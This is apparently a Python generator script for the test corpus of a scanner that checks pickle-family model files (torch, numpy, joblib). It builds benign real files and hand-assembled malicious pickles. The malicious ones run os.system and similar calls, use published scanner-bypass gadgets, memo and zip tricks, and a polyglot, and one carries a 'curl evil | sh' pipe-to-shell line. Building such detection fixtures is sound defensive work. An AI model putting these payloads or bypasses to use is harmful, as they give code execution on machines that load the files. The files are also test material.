#!/usr/bin/python3
"""Generates the model-file fixtures of tests/corpus/artifacts/ and their
expectations (expected.json), for the pickle-family readers (src/artifact).

    /usr/bin/python3 tests/artifacts/generate.py [OUTDIR]

Needs Debian's python3-torch, python3-numpy and python3-joblib (apt-get
install python3-torch python3-numpy python3-joblib). The outputs are
committed with this script, so the test suite does not need torch.

Benign files are real: torch.save state dicts (zip and legacy formats),
torch.jit.save, np.save of numeric, object and structured arrays, joblib
dumps (plain and in every codec). Malicious files are written byte by byte
from opcodes: this script NEVER unpickles anything (no pickle.load/loads,
no torch.load, no np.load, no joblib.load); pickle.dumps is only used on
plain data for benign parts. Zip archives with odd properties are written
by a small writer below, so that every field is under control.

Each fixture declares what the scan must report: (check, subject, severity,
member chain) for every finding, the format and the verdict. The corpus
test (tests/unit/test_art_corpus.c) scans every file and compares.
"""
import bz2
import gzip
import io
import json
import lzma
import os
import pickle as P  # opcode constants, and dumps() of plain data only
import struct
import sys
import tarfile
import time
import zlib

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(ROOT, "tests", "corpus", "artifacts")

FIXTURES = []  # dicts: path, format, verdict, findings


def fixture(path, data, fmt, verdict, findings=()):
    full = os.path.join(OUT, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb") as f:
        f.write(data)
    fs = []
    for fd in findings:
        check, subject, severity = fd[0], fd[1], fd[2]
        members = list(fd[3]) if len(fd) > 3 else []
        fs.append({"check": check, "subject": subject, "severity": severity, "members": members})
    FIXTURES.append({"path": path, "format": fmt, "verdict": verdict, "findings": fs})


def D(subject, members=()):
    return ("pickle-dangerous-global", subject, "error", members)


def U(subject, members=()):
    return ("pickle-unlisted-global", subject, "warning", members)


def MAL(members=()):
    return ("malformed", None, "warning", members)


# ---- opcode helpers (bytes only) -------------------------------------------------

def proto(n):
    return P.PROTO + bytes([n])


def s0(text):  # protocol 0 STRING
    return P.STRING + b"'" + text.encode() + b"'\n"


def u(text):  # SHORT_BINUNICODE (protocol 4)
    b = text.encode()
    return P.SHORT_BINUNICODE + bytes([len(b)]) + b


def bu(text):  # BINUNICODE (protocol 1+)
    b = text.encode()
    return P.BINUNICODE + struct.pack("<I", len(b)) + b


def g(mod, name):  # GLOBAL
    return P.GLOBAL + mod.encode() + b"\n" + name.encode() + b"\n"


def sg(mod, name):  # STACK_GLOBAL from two strings
    return u(mod) + u(name) + P.STACK_GLOBAL


def call(callee, *args):  # callee(*args) with REDUCE; args are opcode bytes
    return callee + P.MARK + b"".join(args) + P.TUPLE + P.REDUCE


def binbytes(b):
    return P.BINBYTES + struct.pack("<I", len(b)) + b


# a few payloads
def os_system_p0(cmd="echo pwned"):
    return g("os", "system") + P.MARK + s0(cmd) + P.TUPLE + P.REDUCE + P.STOP


def posix_system_p2(cmd="id"):
    return proto(2) + call(g("posix", "system"), bu(cmd)) + P.STOP


# ---- a small zip writer -----------------------------------------------------------

class ZipW:
    """Stored or deflated members; optional data descriptors, ZIP64 records,
    flag bits and wrong CRCs. Fixed dates."""

    def __init__(self):
        self.buf = io.BytesIO()
        self.cd = []
        self.zip64 = False

    def add(self, name, data, deflate=False, flags=0, crc=None, descriptor=False, zip64=False,
            local_name=None):
        nb = name.encode()
        lnb = (local_name or name).encode()
        real_crc = zlib.crc32(data) & 0xFFFFFFFF
        crc_v = real_crc if crc is None else crc
        if deflate:
            c = zlib.compressobj(6, zlib.DEFLATED, -15)
            comp = c.compress(data) + c.flush()
            method = 8
        else:
            comp, method = data, 0
        if descriptor:
            flags |= 0x08
        off = self.buf.tell()
        lcrc, lcs, lus = (0, 0, 0) if descriptor else (crc_v, len(comp), len(data))
        extra = b""
        if zip64:
            self.zip64 = True
            extra = struct.pack("<HHQQ", 1, 16, len(data), len(comp))
            lcs = lus = 0xFFFFFFFF
        self.buf.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 45 if zip64 else 20, flags, method, 0, 0x21,
                                   lcrc, lcs, lus, len(lnb), len(extra)))
        self.buf.write(lnb + extra)
        self.buf.write(comp)
        if descriptor:
            self.buf.write(struct.pack("<IIII", 0x08074B50, crc_v, len(comp), len(data)))
        self.cd.append((nb, flags, method, crc_v, len(comp), len(data), off, zip64))

    def finish(self, comment=b"", prefix=b""):
        cd_start = self.buf.tell()
        for nb, flags, method, crc_v, cs, us, off, z64 in self.cd:
            extra = b""
            if z64:
                extra = struct.pack("<HHQQQ", 1, 24, us, cs, off)
                cs = us = off = 0xFFFFFFFF
            self.buf.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45 if z64 else 20, 45 if z64 else 20,
                                       flags, method, 0, 0x21, crc_v, cs, us, len(nb), len(extra), 0, 0, 0, 0,
                                       off))
            self.buf.write(nb + extra)
        cd_end = self.buf.tell()
        n = len(self.cd)
        if self.zip64:
            self.buf.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, n, n, cd_end - cd_start,
                                       cd_start))
            self.buf.write(struct.pack("<IIQI", 0x07064B50, 0, cd_end, 1))
            self.buf.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF,
                                       len(comment)))
        else:
            self.buf.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, cd_end - cd_start, cd_start,
                                       len(comment)))
        self.buf.write(comment)
        return prefix + self.buf.getvalue()


def torch_members(path):
    """(name, bytes) of a real torch zip checkpoint, in order."""
    import zipfile
    with zipfile.ZipFile(path) as z:
        return [(i.filename, z.read(i.filename)) for i in z.infolist()]


# ---- benign, real files ---------------------------------------------------------------

def real_files(tmp):
    import joblib
    import numpy as np
    import torch

    torch.manual_seed(0)
    lin = torch.nn.Linear(4, 3)
    lin.register_buffer("steps", torch.tensor([7], dtype=torch.int64))
    sd = lin.state_dict()
    sd["scale"] = torch.nn.Parameter(torch.ones(2))
    b = io.BytesIO()
    torch.save(sd, b)
    fixture("benign/torch_zip_state_dict.pt", b.getvalue(), "pytorch-zip", "safe")
    zpath = os.path.join(tmp, "z.pt")
    with open(zpath, "wb") as f:
        f.write(b.getvalue())
    b = io.BytesIO()
    torch.save(sd, b, _use_new_zipfile_serialization=False)
    fixture("benign/torch_legacy_state_dict.pt", b.getvalue(), "pytorch-legacy", "safe")
    b = io.BytesIO()
    torch.save({"w": torch.arange(3.0)}, b, _use_new_zipfile_serialization=False, pickle_protocol=1)
    fixture("benign/torch_legacy_protocol1.pt", b.getvalue(), "pytorch-legacy", "safe")

    # TorchScript: code/ runs when loaded
    src = os.path.join(tmp, "tsmod.py")
    with open(src, "w") as f:
        f.write("import torch\n"
                "class M(torch.nn.Module):\n"
                "    def __init__(self):\n"
                "        super().__init__()\n"
                "        self.l = torch.nn.Linear(2, 2)\n"
                "    def forward(self, x):\n"
                "        return self.l(x) * 2\n")
    sys.path.insert(0, tmp)
    import tsmod  # noqa: E402
    b = io.BytesIO()
    torch.jit.save(torch.jit.script(tsmod.M()), b)
    fixture("benign/torchscript_module.pt", b.getvalue(), "torchscript", "suspicious",
            [("torchscript-code", "archive/code/__torch__/tsmod.py", "warning")])

    b = io.BytesIO()
    np.save(b, np.arange(12, dtype=np.float32).reshape(3, 4))
    fixture("benign/numpy_numeric.npy", b.getvalue(), "numpy-npy", "safe")
    b = io.BytesIO()
    np.save(b, np.array([1, "two", [3, 4], {"five": 5.0}, None], dtype=object), allow_pickle=True)
    fixture("benign/numpy_object.npy", b.getvalue(), "numpy-npy", "safe")
    b = io.BytesIO()
    np.save(b, np.zeros(2, dtype=[("a", "<i4"), ("b", "O")]), allow_pickle=True)
    fixture("benign/numpy_structured_object.npy", b.getvalue(), "numpy-npy", "safe")
    for ver in ((2, 0), (3, 0)):
        b = io.BytesIO()
        np.lib.format.write_array(b, np.arange(5, dtype=np.int16), version=ver)
        fixture("benign/numpy_v%d.npy" % ver[0], b.getvalue(), "numpy-npy", "safe")
    # an .npz (np.savez writes zip members with the current time: written here with a fixed one)
    z = ZipW()
    for name, arr in (("x.npy", np.arange(4.0)), ("y.npy", np.array(["a", "bc"]))):
        bb = io.BytesIO()
        np.save(bb, arr)
        z.add(name, bb.getvalue(), deflate=True)
    fixture("benign/arrays.npz", z.finish(), "numpy-npz", "safe")

    real_time = time.time
    time.time = lambda: 1700000000.0  # gzip headers hold the time
    try:
        data = {"weights": np.arange(10, dtype=np.float64), "bias": np.zeros((2, 3), dtype=np.float32),
                "names": ["a", "b"], "epoch": 3}
        p = os.path.join(tmp, "arrays.joblib")
        joblib.dump(data, p)
        fixture("benign/joblib_arrays.joblib", open(p, "rb").read(), "joblib", "safe")
        p = os.path.join(tmp, "dict.joblib")
        joblib.dump({"lr": 0.1, "layers": [16, 8], "name": "model"}, p)
        fixture("benign/joblib_dict.joblib", open(p, "rb").read(), "pickle", "safe")
        p = os.path.join(tmp, "obj.joblib")
        joblib.dump({"objs": np.array([1, "x", (2, 3)], dtype=object), "n": np.arange(3)}, p)
        fixture("benign/joblib_object_array.joblib", open(p, "rb").read(), "joblib", "safe")
        for codec in ("zlib", "gzip", "bz2", "xz", "lzma"):
            p = os.path.join(tmp, "c." + codec)
            joblib.dump(data, p, compress=(codec, 3))
            fixture("benign/joblib_%s.joblib" % codec, open(p, "rb").read(), "joblib", "safe")
    finally:
        time.time = real_time
    return zpath


# ---- malicious, hand-assembled --------------------------------------------------------

def malicious_pickles():
    fixture("malicious/os_system_proto0.pkl", os_system_p0(), "pickle", "malicious", [D("os.system")])
    fixture("malicious/posix_system_proto2.pkl", posix_system_p2(), "pickle", "malicious", [D("posix.system")])
    # Python 2 names: __builtin__ is builtins for protocol < 3
    fixture("malicious/builtin_eval_py2.pkl",
            g("__builtin__", "eval") + P.MARK + s0("__import__('os').system('id')") + P.TUPLE + P.REDUCE + P.STOP,
            "pickle", "malicious", [D("builtins.eval")])
    # escapes in protocol 0 strings hide the names from a text search
    fixture("malicious/stack_global_escaped.pkl",
            proto(4) + P.STRING + b"'\\x6fs'\n" + P.UNICODE + b"\\u0073ystem\n" + P.STACK_GLOBAL
            + P.MARK + s0("id") + P.TUPLE + P.REDUCE + P.STOP,
            "pickle", "malicious", [D("os.system")])
    # memo confusion (picklescan #14/#22): PUT and MEMOIZE mixed, strings out of order
    memo = (proto(4)
            + u("os") + P.BINPUT + b"\x05" + P.POP
            + u("torch") + P.MEMOIZE + P.POP                 # MEMOIZE's index is the memo size: 1
            + u("system") + P.BINPUT + b"\x07" + P.POP
            + u("_rebuild_tensor_v2") + P.MEMOIZE + P.POP    # index 3
            + P.BINGET + b"\x05" + P.BINGET + b"\x07" + P.STACK_GLOBAL
            + P.MARK + u("id") + P.TUPLE + P.REDUCE + P.STOP)
    fixture("malicious/memo_stack_global.pkl", memo, "pickle", "malicious", [D("os.system")])
    memo0 = (u("subprocess") + P.PUT + b"2\n" + P.POP + u("getoutput") + P.LONG_BINPUT + struct.pack("<I", 70000)
             + P.POP + P.GET + b"2\n" + P.LONG_BINGET + struct.pack("<I", 70000) + P.STACK_GLOBAL
             + P.MARK + u("id") + P.TUPLE + P.REDUCE + P.STOP)
    fixture("malicious/memo_put_get_text.pkl", proto(4) + memo0, "pickle", "malicious",
            [D("subprocess.getoutput")])
    # a GET of an index never PUT: the loader fails there (the scanners that crashed here reported nothing)
    fixture("malicious/memo_missing_index.pkl",
            proto(4) + u("os") + P.BINPUT + b"\x00" + P.BINGET + b"\x09" + P.STACK_GLOBAL + P.STOP,
            "pickle", "unscannable", [MAL()])
    # huge memo index (LONG_BINPUT 0xffffffff)
    fixture("malicious/memo_huge_index.pkl",
            proto(4) + u("nt") + P.LONG_BINPUT + b"\xff\xff\xff\xff" + P.POP + u("system")
            + P.LONG_BINPUT + b"\xfe\xff\xff\xff" + P.POP
            + P.LONG_BINGET + b"\xff\xff\xff\xff" + P.LONG_BINGET + b"\xfe\xff\xff\xff" + P.STACK_GLOBAL
            + P.MARK + u("calc") + P.TUPLE + P.REDUCE + P.STOP,
            "pickle", "malicious", [D("nt.system")])
    # STACK_GLOBAL on a computed module name: str.lower("OS")
    fixture("malicious/stack_global_computed.pkl",
            proto(4) + call(sg("builtins", "str.lower"), u("OS")) + u("system") + P.STACK_GLOBAL
            + P.MARK + u("id") + P.TUPLE + P.REDUCE + P.STOP,
            "pickle", "malicious",
            [U("builtins.str.lower"), ("pickle-dynamic-global", None, "error", [])])
    # STACK_GLOBAL on a global that is a string at load time (os.name is "posix")
    fixture("malicious/stack_global_from_global.pkl",
            proto(4) + g("os", "name") + u("system") + P.STACK_GLOBAL + P.STOP,
            "pickle", "malicious", [D("os.name"), ("pickle-dynamic-global", None, "error", [])])
    # type confusion (ModelScan #338): bytes as STACK_GLOBAL operands: the loader fails
    fixture("malicious/stack_global_bytes.pkl",
            proto(4) + P.SHORT_BINBYTES + b"\x02os" + u("system") + P.STACK_GLOBAL + P.STOP,
            "pickle", "unscannable", [MAL()])
    # getattr chains: getattr(__import__('os'), 'system')('id')
    gat = (proto(2) + g("builtins", "getattr") + P.MARK + call(g("builtins", "__import__"), bu("os"))
           + bu("system") + P.TUPLE + P.REDUCE + P.MARK + bu("id") + P.TUPLE + P.REDUCE + P.STOP)
    fixture("malicious/getattr_import_chain.pkl", gat, "pickle", "malicious",
            [D("builtins.getattr"), D("builtins.__import__"), D("os"), D("os.system")])
    # ModelScan #331: importlib.import_module('builtins') then getattr(..., 'eval')
    imp = (proto(4) + call(sg("importlib", "import_module"), u("builtins")) + P.MEMOIZE
           + sg("builtins", "getattr") + P.MEMOIZE + P.BINGET + b"\x01" + P.BINGET + b"\x00" + u("eval")
           + P.TUPLE2 + P.REDUCE + P.MARK + u("__import__('os').system('id')") + P.TUPLE + P.REDUCE + P.STOP)
    fixture("malicious/importlib_getattr_eval.pkl", imp, "pickle", "malicious",
            [D("importlib.import_module"), U("builtins"), D("builtins.getattr"), D("builtins.eval")])
    # pkgutil.resolve_name (GHSA-vvpj-8cmc-gx39)
    fixture("malicious/pkgutil_resolve_name.pkl",
            proto(4) + call(sg("pkgutil", "resolve_name"), u("os:system")) + P.MARK + u("id") + P.TUPLE
            + P.REDUCE + P.STOP,
            "pickle", "malicious", [D("pkgutil.resolve_name"), D("os.system")])
    # introspection through an allowed module (ModelScan #89/#330)
    fixture("malicious/numpy_builtins_dunder.pkl",
            proto(4) + call(sg("builtins", "dict.get"), sg("numpy", "__builtins__"), u("exec"))
            + P.MARK + u("print(1)") + P.TUPLE + P.REDUCE + P.STOP,
            "pickle", "malicious",
            [U("builtins.dict.get"), D("numpy.__builtins__"), ("pickle-indirect-call", None, "warning", [])])
    # attribute chains in protocol 4 qualified names reach sys.modules through numpy
    fixture("malicious/qualified_name_chain.pkl",
            proto(4) + sg("numpy", "core._internal.sys.modules") + P.STOP,
            "pickle", "malicious", [D("numpy.core._internal.sys.modules")])
    # ModelScan #85: BUILD sets attributes on an imported function, read back through qualified names
    mut = (proto(5) + g("numpy", "prod") + P.NONE + P.MARK + u("a") + u("os") + P.DICT + P.TUPLE2 + P.BUILD
           + P.POP + g("numpy", "prod.a") + P.STOP)
    fixture("malicious/build_global_mutation.pkl", mut, "pickle", "malicious",
            [U("numpy.prod"), ("pickle-global-mutation", "numpy.prod", "error", []), U("numpy.prod.a")])
    # INST, OBJ, NEWOBJ, NEWOBJ_EX call what they import
    fixture("malicious/inst_eval.pkl", P.MARK + s0("print(1)") + P.INST + b"builtins\neval\n" + P.STOP,
            "pickle", "malicious", [D("builtins.eval")])
    fixture("malicious/obj_popen.pkl",
            proto(1) + P.MARK + g("subprocess", "Popen") + P.EMPTY_LIST + P.MARK + bu("id") + P.APPENDS + P.OBJ
            + P.STOP, "pickle", "malicious", [D("subprocess.Popen")])
    fixture("malicious/newobj_ex_popen.pkl",
            proto(4) + sg("subprocess", "Popen") + P.MARK + u("id") + P.TUPLE + P.EMPTY_DICT + P.NEWOBJ_EX + P.STOP,
            "pickle", "malicious", [D("subprocess.Popen")])
    # copyreg's extension registry: the target is not in the file
    fixture("malicious/ext_code.pkl", proto(2) + P.EXT1 + b"\x7f" + P.MARK + bu("id") + P.TUPLE + P.REDUCE + P.STOP,
            "pickle", "suspicious", [("pickle-extension-global", "127", "warning", [])])
    # calling the result of a call
    fixture("malicious/indirect_call.pkl",
            proto(2) + call(call(g("_codecs", "encode"), bu("x"), bu("latin1"))) + P.STOP,
            "pickle", "suspicious", [("pickle-indirect-call", None, "warning", [])])
    # published bypasses, one callable each
    gadgets = [
        ("pip", "main", "pip.main"),                                     # CVE-2025-1716
        ("runpy", "_run_code", "runpy._run_code"),
        ("torch.utils.collect_env", "run", "torch.utils.collect_env.run"),
        ("numpy.testing._private.utils", "runstring", "numpy.testing._private.utils.runstring"),
        ("operator", "attrgetter", "operator.attrgetter"),
        ("operator", "methodcaller", "operator.methodcaller"),
        ("code", "InteractiveInterpreter.runcode", "code.InteractiveInterpreter.runcode"),
        ("timeit", "timeit", "timeit.timeit"),
        ("cProfile", "run", "cProfile.run"),
        ("pdb", "run", "pdb.run"),
        ("webbrowser", "open", "webbrowser.open"),
        ("pty", "spawn", "pty.spawn"),
        ("shutil", "rmtree", "shutil.rmtree"),
        ("socket", "create_connection", "socket.create_connection"),
        ("ctypes", "CDLL", "ctypes.CDLL"),
        ("marshal", "loads", "marshal.loads"),
        ("types", "FunctionType", "types.FunctionType"),
        ("types", "CodeType", "types.CodeType"),
        ("asyncio.unix_events", "_UnixSubprocessTransport", "asyncio.unix_events._UnixSubprocessTransport"),
        ("ensurepip", "_run_pip", "ensurepip._run_pip"),
        ("pip._internal.cli.main", "main", "pip._internal.cli.main.main"),
        ("multiprocessing.util", "spawnv_passfds", "multiprocessing.util.spawnv_passfds"),
        ("sys", "modules", "sys.modules"),
        ("builtins", "exec", "builtins.exec"),
        ("builtins", "compile", "builtins.compile"),
        ("builtins", "open", "builtins.open"),
        ("builtins", "setattr", "builtins.setattr"),
        ("builtins", "breakpoint", "builtins.breakpoint"),
        ("importlib.util", "find_spec", "importlib.util.find_spec"),
        ("imaplib", "IMAP4_stream", "imaplib.IMAP4_stream"),
        ("torch._inductor.codecache", "compile_file", "torch._inductor.codecache.compile_file"),
        ("mailcap", "findmatch", "mailcap.findmatch"),
        ("dill", "loads", "dill.loads"),
        ("cloudpickle", "loads", "cloudpickle.loads"),
        ("_pickle", "loads", "_pickle.loads"),
        ("picklescan.scanner", "scan_pickle_bytes", "picklescan.scanner.scan_pickle_bytes"),
    ]
    body = proto(4) + P.EMPTY_LIST + P.MARK + b"".join(sg(m, n) for m, n, _ in gadgets) + P.APPENDS + P.STOP
    fixture("malicious/dangerous_catalog.pkl", body, "pickle", "malicious", [D(s) for _, _, s in gadgets])
    # a pickle handed to pickle.loads inside the pickle is read too
    inner = posix_system_p2("touch /tmp/x")
    fixture("malicious/nested_pickle_loads.pkl",
            proto(3) + call(g("pickle", "loads"), binbytes(inner)) + P.STOP,
            "pickle", "malicious", [D("pickle.loads"), D("posix.system")])
    # a second pickle after the first (pickle.load in a loop runs it)
    fixture("malicious/second_pickle.pkl", P.dumps({"ok": 1}, protocol=2) + os_system_p0(), "pickle",
            "malicious", [D("os.system")])
    # garbage after STOP
    fixture("malicious/trailing_garbage.pkl", P.dumps([1, 2], protocol=2) + b"\xff\xfe garbage \x00\x01",
            "pickle", "suspicious", [("trailing-data", None, "warning", [])])
    # truncated: what ran before the end is still reported
    fixture("malicious/truncated.pkl", posix_system_p2()[:-1], "pickle", "unscannable",
            [D("posix.system"), MAL()])
    fixture("malicious/bad_opcode.pkl", proto(2) + P.NONE + b"\xfa" + P.STOP, "pickle", "unscannable", [MAL()])
    fixture("malicious/proto_out_of_range.pkl", b"\x80\x09" + call(g("os", "system"), bu("id")) + P.STOP,
            "pickle", "unscannable", [D("os.system"), MAL()])
    fixture("malicious/frame_too_long.pkl", proto(4) + P.FRAME + struct.pack("<Q", 1 << 40) + P.NONE + P.STOP,
            "pickle", "unscannable", [MAL()])
    fixture("malicious/huge_length.pkl",
            proto(4) + P.BINUNICODE8 + struct.pack("<Q", 1 << 62) + b"os" + P.STOP, "pickle", "unscannable",
            [MAL()])
    # extensions prove nothing: a pickle under another name is found by its bytes
    for name in ("pytorch_model.bin", "model.safetensors", "notes.txt"):
        fixture("malicious/renamed/" + name, os_system_p0("curl evil | sh"), "pickle", "malicious",
                [D("os.system")])
    # a text file named .pkl is not a pickle
    fixture("benign/text_named.pkl", b"This is not a pickle.\nIt is a README.\n", None, "not-model")
    # Git LFS pointer: the model is not here
    fixture("benign/lfs_pointer.bin",
            b"version https://git-lfs.github.com/spec/v1\n"
            b"oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n",
            "lfs-pointer", "unscannable",
            [("lfs-pointer", "sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393", "warning")])


def legacy_torch():
    magic0 = P.LONG + b"119547037146038801333356L\n" + P.STOP   # protocol 0/1 form
    sysinfo = P.dumps({"protocol_version": 1001, "little_endian": True,
                       "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=1)
    body = (g("posix", "system") + P.MARK + bu("id") + P.TUPLE + P.REDUCE + P.STOP)   # protocol 1 opcodes
    data = magic0 + P.BININT2 + struct.pack("<H", 1001) + P.STOP + sysinfo + body + P.dumps([], protocol=1)
    fixture("malicious/torch_legacy_protocol1.pt", data, "pytorch-legacy", "malicious", [D("posix.system")])
    # protocol 0 all through, payload in the storage keys pickle (the fifth)
    data = (magic0 + P.INT + b"1001\n" + P.STOP + P.EMPTY_DICT.replace(b"}", b"(d") + P.STOP
            + P.NONE + P.STOP + os_system_p0() + b"\x00" * 16)
    fixture("malicious/torch_legacy_protocol0_fifth.pt", data, "pytorch-legacy", "malicious", [D("os.system")])
    # the magic pickle itself replaced: torch.load unpickles it before checking
    fixture("malicious/torch_legacy_first.pt", posix_system_p2() + P.dumps(1001, protocol=2), "pickle",
            "malicious", [D("posix.system")])


def torch_zips(zpath):
    members = torch_members(zpath)
    top = members[0][0].split("/")[0]
    evil = posix_system_p2("id")

    def build(w, rename=None, data_pkl=evil, **kw):
        for name, data in members:
            n = name if rename is None else rename + name[len(top):]
            if name.endswith("/data.pkl"):
                w.add(n, data_pkl, **kw)
            else:
                w.add(n, data)
        return w

    m = [top + "/data.pkl"]
    fixture("malicious/torch_zip_data_pkl.pt", build(ZipW()).finish(), "pytorch-zip", "malicious",
            [D("posix.system", m)])
    fixture("malicious/torch_zip_bad_crc.pt", build(ZipW(), crc=0x12345678).finish(), "pytorch-zip",
            "malicious", [("zip-crc-mismatch", m[0], "note"), D("posix.system", m)])
    fixture("malicious/torch_zip_encrypted_flag.pt", build(ZipW(), flags=0x1).finish(), "pytorch-zip",
            "malicious", [("zip-flag-bits", m[0], "note"), D("posix.system", m)])
    fixture("malicious/torch_zip_descriptor_deflate.pt", build(ZipW(), deflate=True, descriptor=True).finish(),
            "pytorch-zip", "malicious", [D("posix.system", m)])
    fixture("malicious/torch_zip_zip64.pt", build(ZipW(), zip64=True).finish(comment=b"a comment"),
            "pytorch-zip", "malicious", [D("posix.system", m)])
    fixture("malicious/torch_zip_renamed_folder.pt", build(ZipW(), rename="my_model").finish(), "pytorch-zip",
            "malicious", [D("posix.system", ["my_model/data.pkl"])])
    # a local header naming the member differently (zipfile refuses, torch reads)
    w = ZipW()
    for name, data in members:
        if name.endswith("/data.pkl"):
            w.add(name, evil, local_name=top + "/data.pk_")
        else:
            w.add(name, data)
    fixture("malicious/torch_zip_local_name.pt", w.finish(), "pytorch-zip", "malicious",
            [("zip-divergence", m[0], "note"), D("posix.system", m)])
    # two data.pkl members: a benign one and the payload
    w = ZipW()
    for name, data in members:
        w.add(name, data)
        if name.endswith("/data.pkl"):
            w.add(name, evil)
    fixture("malicious/torch_zip_duplicate.pt", w.finish(), "pytorch-zip", "malicious",
            [("archive-duplicate-name", m[0], "note"), D("posix.system", m)])
    # a pickle hidden in a member not named .pkl
    w = build(ZipW(), data_pkl=[d for n, d in members if n.endswith("/data.pkl")][0])
    w.add(top + "/extra/notes.txt", os_system_p0())
    fixture("malicious/torch_zip_hidden_member.pt", w.finish(), "pytorch-zip", "malicious",
            [D("os.system", [top + "/extra/notes.txt"])])
    # zip path traversal
    w = ZipW()
    w.add("../../evil.pkl", os_system_p0())
    fixture("malicious/zip_traversal.zip", w.finish(), "zip", "malicious",
            [("archive-unsafe-path", "../../evil.pkl", "note"), D("os.system", ["../../evil.pkl"])])


def npy_payload(descr):
    header = ("{'descr': %s, 'fortran_order': False, 'shape': (2,), }" % descr).encode()
    pad = 64 - (10 + len(header) + 1) % 64
    header += b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header


def numpy_files():
    evil = posix_system_p2("id")
    fixture("malicious/numpy_object.npy", npy_payload("'|O'") + evil, "numpy-npy", "malicious",
            [D("posix.system")])
    fixture("malicious/numpy_structured_object.npy",
            npy_payload("[('a', '<i4'), ('sub', [('b', '|O')])]") + evil, "numpy-npy", "malicious",
            [D("posix.system")])
    fixture("malicious/numpy_truncated.npy", npy_payload("'<f8'") + b"\x00" * 8, "numpy-npy", "unscannable",
            [MAL()])
    # an .npz holding a malicious object array, inside a zip
    inner = ZipW()
    inner.add("evil.npy", npy_payload("'|O'") + evil, deflate=True)
    outer = ZipW()
    outer.add("README.md", b"# weights\n")
    outer.add("weights/inner.npz", inner.finish())
    fixture("malicious/npz_in_zip.zip", outer.finish(), "zip", "malicious",
            [D("posix.system", ["weights/inner.npz", "evil.npy"])])


def joblib_evil():
    """A joblib dump by hand: {'a': <float64 array of 5>, 'b': exec(...)}.
    The array's raw bytes spell a pickle a scanner that does not skip them
    would misread (os.system): they must not be reported."""
    wrapper = (sg("joblib.numpy_pickle", "NumpyArrayWrapper") + P.EMPTY_TUPLE + P.NEWOBJ + P.EMPTY_DICT + P.MARK
               + u("subclass") + sg("numpy", "ndarray") + u("shape") + P.BININT1 + b"\x05" + P.TUPLE1
               + u("order") + u("C") + u("dtype")
               + sg("numpy", "dtype") + u("f8") + P.NEWFALSE + P.NEWTRUE + P.TUPLE3 + P.REDUCE
               + P.MARK + P.BININT1 + b"\x03" + u("<") + P.NONE + P.NONE + P.NONE + P.BININT + b"\xff\xff\xff\xff"
               + P.BININT + b"\xff\xff\xff\xff" + P.BININT1 + b"\x00" + P.TUPLE + P.BUILD
               + u("allow_mmap") + P.NEWTRUE + u("numpy_array_alignment_bytes") + P.BININT1 + b"\x10"
               + P.SETITEMS + P.BUILD)
    raw = (b"cos\nsystem\n(S'x'\ntR." + b"\x00" * 40)[:40]
    data = (proto(4) + P.EMPTY_DICT + P.MARK + u("a") + wrapper + b"\x03" + b"\xff" * 3 + raw
            + u("b") + call(sg("builtins", "exec"), u("import os")) + P.SETITEMS + P.STOP)
    return data


def joblib_padding_polyglot():
    """joblib skips the padding its first byte announces; pickle.load reads
    that byte as an opcode: 'c' (99) starts GLOBAL os system."""
    wrapper = joblib_evil().split(b"\x03\xff\xff\xff")[0]
    pad = b"os\nsystem\n(S'x'\ntR."
    pad += b"\x00" * (99 - len(pad))
    return wrapper + b"c" + pad + b"\x00" * 40 + u("b") + P.BININT1 + b"\x01" + P.SETITEMS + P.STOP


def joblib_files():
    fixture("malicious/joblib_padding_polyglot.joblib", joblib_padding_polyglot(), "joblib", "malicious",
            [D("os.system")])
    data = joblib_evil()
    fixture("malicious/joblib_array_then_exec.joblib", data, "joblib", "malicious",
            [D("builtins.exec")])
    codecs = {
        "zlib": ("<zlib>", zlib.compress(data, 3)),
        "gzip": ("<gzip>", gzip.compress(data, 3, mtime=0)),
        "bz2": ("<bz2>", bz2.compress(data, 3)),
        "xz": ("<xz>", lzma.compress(data, format=lzma.FORMAT_XZ)),
        "lzma": ("<lzma>", lzma.compress(data, format=lzma.FORMAT_ALONE)),
    }
    for codec, (member, blob) in codecs.items():
        fixture("malicious/joblib_%s.joblib" % codec, blob, "joblib", "malicious", [D("builtins.exec", [member])])
    # joblib < 0.10: "ZF", the length in hex, then zlib
    zf = b"ZF" + ("0x%x" % len(data)).encode().ljust(19) + zlib.compress(data)
    fixture("malicious/joblib_old_zfile.pkl", zf, "joblib", "malicious", [D("builtins.exec", ["<zlib>"])])


def legacy_tar():
    """torch 0.1.x: a tar of 'storages', 'tensors' and 'pickle'."""
    storage_rec = (proto(2) + bu("0") + bu("cpu") + g("torch", "FloatStorage") + P.TUPLE3 + P.STOP)
    storages = (P.dumps(1, protocol=2) + storage_rec + struct.pack("<q", 3) + struct.pack("<3f", 1, 2, 3)
                + P.dumps([], protocol=2))
    tensor_rec = proto(2) + bu("t0") + bu("0") + g("torch", "FloatTensor") + P.TUPLE3 + P.STOP
    tensors = (P.dumps(1, protocol=2) + tensor_rec + struct.pack("<iI", 1, 0) + struct.pack("<q", 3)
               + struct.pack("<q", 1) + struct.pack("<q", 0))
    obj_ok = proto(2) + P.EMPTY_DICT + bu("w") + bu("t0") + P.BINPERSID + P.SETITEM + P.STOP
    obj_evil = proto(2) + call(g("os", "system"), bu("id")) + P.STOP

    def tar(obj):
        b = io.BytesIO()
        with tarfile.open(fileobj=b, mode="w", format=tarfile.GNU_FORMAT) as t:
            for name, data in (("sys_info", P.dumps({"protocol_version": 1001}, protocol=2)),
                               ("storages", storages), ("tensors", tensors), ("pickle", obj)):
                ti = tarfile.TarInfo(name)
                ti.size = len(data)
                ti.mtime = 0
                t.addfile(ti, io.BytesIO(data))
        return b.getvalue()

    fixture("benign/torch_legacy_tar.tar", tar(obj_ok), "pytorch-tar", "safe")
